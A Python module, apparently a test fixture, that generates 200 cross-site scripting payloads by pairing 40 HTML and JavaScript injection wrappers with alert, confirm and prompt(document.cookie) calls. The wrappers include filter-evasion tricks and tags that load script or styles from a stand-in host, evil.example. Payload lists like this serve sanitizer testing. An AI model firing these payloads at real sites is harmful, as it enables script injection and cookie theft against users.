"""Texts that a careless page would run as script."""

from __future__ import annotations

from itertools import product
from typing import Final

_CALLS: Final = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.confirm(1)", "prompt(document.cookie)")
_FRAMES: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    '" autofocus onfocus={} x="',
    "' onmouseover={} '",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<style>@import 'http://evil.example/x.css';</style><b onclick={}>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><input type=submit autofocus>",
    "<base href='http://evil.example/'><img src=x onerror={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='http://evil.example/x' onerror={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "\u2028<script>{}</script>\u2029",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<SCRIPT/SRC=//evil.example/x onload={}></SCRIPT>",
    "<<script>{}//<</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)
PAYLOADS: Final = tuple(frame.format(call) for frame, call in product(_FRAMES, _CALLS))
"""Two hundred."""
